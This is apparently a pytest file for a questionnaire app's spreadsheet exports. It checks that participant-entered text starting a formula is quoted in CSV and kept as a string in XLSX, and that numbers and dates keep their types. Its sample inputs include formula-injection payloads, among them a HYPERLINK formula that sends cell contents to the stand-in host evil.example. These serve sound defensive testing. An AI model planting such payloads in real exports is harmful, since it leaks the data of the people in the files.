"""Issue 14 item 2: text from people is written as text in every spreadsheet, never a formula."""
import csv
import io
from datetime import date, datetime

import openpyxl
from sqlalchemy import select

from questionnaires.archive.exports import csv_text, xlsx_bytes, xlsx_stream
from questionnaires.extensions import db
from questionnaires.models import Participant

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+33 6 12 34 56 78", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
ROW = HOSTILE + ["Léa", 42, -3, 2.5, -1.25, date(2021, 11, 22), datetime(2021, 11, 22, 9, 30),
                 ["=1+1", "b"]]
HEADER = [f"c{i}" for i in range(len(ROW))]


def _read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))


def _check_book(data: bytes) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    for cell, text in zip(cells, HOSTILE):
        assert cell.data_type == "s", (cell.value, cell.data_type)
        assert cell.value == text.replace("\r", "") or cell.value == text
    numbers = cells[len(HOSTILE) + 1:len(HOSTILE) + 5]
    assert [c.value for c in numbers] == [42, -3, 2.5, -1.25]
    assert all(c.data_type == "n" for c in numbers)
    assert cells[len(HOSTILE) + 5].value == datetime(2021, 11, 22)
    assert cells[len(HOSTILE) + 5].is_date and cells[len(HOSTILE) + 6].is_date
    assert cells[-1].value == "=1+1, b" and cells[-1].data_type == "s"


def test_csv_cells_that_would_start_a_formula_get_a_quote_and_numbers_stay():
    rows = _read_csv(csv_text(HEADER, [ROW]))
    cells = rows[1]
    assert cells[:len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert cells[len(HOSTILE):] == ["Léa", "42", "-3", "2,50", "-1,25", "22/11/2021",
                                    "22/11/2021 09:30", "'=1+1, b"]


def test_xlsx_text_cells_are_strings_in_both_writers():
    _check_book(xlsx_bytes({"Feuille": (HEADER, [ROW])}))
    _check_book(xlsx_stream({"Feuille": (HEADER, [ROW])}))


def test_a_hostile_name_is_text_in_the_stage_exports(team, demo):
    with demo.app_context():
        person = db.session.scalars(select(Participant).where(Participant.stage_id == 1)
                                    .order_by(Participant.id)).first()
        person.first_name = '=HYPERLINK("http://evil.example","x")'
        person.last_name = "@cmd"
        db.session.commit()
    rows = _read_csv(team.get("/equipe/stages/1/export/participants.csv").get_data(as_text=True))
    assert ["'=HYPERLINK(\"http://evil.example\",\"x\")", "'@cmd"] == rows[1][:2]
    book = openpyxl.load_workbook(io.BytesIO(team.get("/equipe/stages/1/export.xlsx").data))
    first = book["Participants"]["A2"]
    assert first.value == '=HYPERLINK("http://evil.example","x")' and first.data_type == "s"
    assert book["Participants"]["B2"].data_type == "s"
